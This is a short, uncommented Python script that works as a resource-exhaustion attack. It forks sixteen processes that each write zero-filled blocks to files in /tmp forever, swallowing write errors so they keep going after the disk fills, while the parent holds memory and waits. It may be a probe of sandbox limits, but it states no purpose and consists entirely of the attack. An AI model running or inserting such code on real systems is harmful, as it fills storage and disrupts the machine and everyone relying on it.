import os

for number in range(16):
    if os.fork() == 0:
        with open(f"/tmp/{number}", "wb") as file:
            while True:
                try:
                    file.write(bytes(1 << 16))
                    file.flush()
                except OSError:
                    pass
block = bytearray(40 << 20)
while True:
    os.wait()
